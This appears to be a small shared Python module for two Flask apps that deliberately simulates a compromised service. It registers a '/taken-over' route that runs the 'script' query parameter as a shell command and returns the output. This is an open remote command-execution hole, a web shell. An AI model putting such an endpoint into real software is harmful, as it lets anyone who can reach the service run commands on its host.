"""What both applications have: commands, as the service itself runs them, with what came of them."""

import subprocess

from flask import request


def run(*words):
    done = subprocess.run(words, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    return done.stdout, 200 if done.returncode == 0 else 403


def add_to(app):
    # As if somebody had taken the service over.
    app.add_url_rule("/taken-over", view_func=lambda: run("sh", "-c", request.args["script"]))
